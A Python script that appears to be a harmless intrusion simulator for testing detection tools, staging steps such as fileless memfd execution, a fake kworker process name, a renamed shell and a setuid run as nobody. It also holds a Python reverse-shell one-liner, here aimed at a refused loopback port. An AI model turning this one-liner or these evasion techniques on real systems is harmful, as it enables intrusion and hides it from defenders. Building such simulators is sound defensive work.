"""Does, one after the other, what intruders do - without any of the harm.

Nothing here leaves this machine or changes it: programs are copied into two scratch directories
that are removed at the end, the "reverse shell" is refused by a loopback port where nobody
listens, every process ends within seconds, and the one that would get root's rights is `true`.

    harmless_intrusion.py [--pause SECONDS]
"""

from __future__ import annotations

import argparse
import ctypes
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

TIMEOUT_SECONDS = 10
NOBODY = 65_534


@contextmanager
def scratch(parent: Path | None, prefix: str) -> Iterator[Path]:
    """A directory that everybody may read, gone afterwards."""
    directory = Path(tempfile.mkdtemp(prefix=prefix, dir=parent))
    directory.chmod(0o755)
    try:
        yield directory
    finally:
        shutil.rmtree(directory, ignore_errors=True)


def copy(program: str, target: Path) -> str:
    """A copy of an installed program under another name."""
    found = shutil.which(program)
    if found is None:
        raise FileNotFoundError(program)
    shutil.copy(Path(found).resolve(), target)
    return str(target)


def run(*command: str) -> None:
    """Run a command to its end, in silence."""
    subprocess.run(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=TIMEOUT_SECONDS,
        check=False,
    )


def in_child(action: Callable[[], None]) -> None:
    """Fork, run `action` in the child, and wait for its end."""
    child = os.fork()
    if child == 0:
        try:
            action()
        finally:
            os._exit(0)
    os.waitpid(child, 0)


# ------------------------------------------------------------------------------------ the steps


def web_shell(programs: Path, _: Path) -> None:
    """A web server runs a shell"""
    # `timeout` forks and executes its arguments: under this name it makes a fine web server.
    run(copy("timeout", programs / "nginx"), "5", "sh", "-c", "id; uname -a")


def hidden_program(_: Path, hidden: Path) -> None:
    """A program is executed from a hidden directory below /tmp"""
    run(copy("true", hidden / "cache-helper"))


def renamed_shell(programs: Path, _: Path) -> None:
    """A copy of the shell goes by another name"""
    run(copy("sh", programs / "update-manager"), "-c", "true")


def fileless(_: Path, __: Path) -> None:
    """A program is executed that exists only in memory"""

    def execute() -> None:
        descriptor = os.memfd_create("nothing-on-disk")
        os.write(descriptor, Path(shutil.which("true") or "/bin/true").read_bytes())
        os.execve(descriptor, ["true"], {})

    in_child(execute)


def fake_kernel_thread(_: Path, __: Path) -> None:
    """A process calls itself a kernel thread"""
    run("bash", "-c", "exec -a '[kworker/0:1]' sleep 0.2")


def reverse_shell(_: Path, __: Path) -> None:
    """A one-liner connects a shell to a remote machine (loopback, and refused)"""
    # Bound and not listening: whoever connects is refused, and nobody else can take the port.
    with socket.socket() as nobody:
        nobody.bind(("127.0.0.1", 0))
        port = nobody.getsockname()[1]
        run(
            sys.executable,
            "-c",
            f"import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{port}));"
            "[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')",
        )


def orphan(programs: Path, _: Path) -> None:
    """A process below the web server forks twice, to get rid of its origin"""
    run(str(programs / "nginx"), "5", "sh", "-c", "(sleep 0.3; exec id) & exit")
    time.sleep(0.5)


def privileged_without_arguments(programs: Path, _: Path) -> None:
    """A setuid program is started by nobody, with no arguments at all"""
    os.chmod(copy("true", programs / "true"), 0o4755)
    library = ctypes.CDLL(None)

    def execute() -> None:
        os.chdir(programs)  # what is above may be closed to nobody
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        library.execve(b"./true", (ctypes.c_char_p * 1)(None), (ctypes.c_char_p * 1)(None))

    in_child(execute)


STEPS = (
    web_shell,
    hidden_program,
    renamed_shell,
    fileless,
    fake_kernel_thread,
    reverse_shell,
    orphan,
    privileged_without_arguments,
)


def main() -> None:
    parser = argparse.ArgumentParser(description="Does harmlessly what intruders do.")
    parser.add_argument("--pause", type=float, default=1.0, help="seconds between two steps")
    pause: float = parser.parse_args().pause
    build = Path(__file__).resolve().parent.parent / "build"
    build.mkdir(exist_ok=True)
    with ExitStack() as cleanup:
        programs = cleanup.enter_context(scratch(build, "demo-"))
        hidden = cleanup.enter_context(scratch(None, ".demo-"))
        for number, step in enumerate(STEPS, 1):
            print(f"  {number}. {step.__doc__}", flush=True)
            step(programs, hidden)
            time.sleep(pause)


if __name__ == "__main__":
    main()
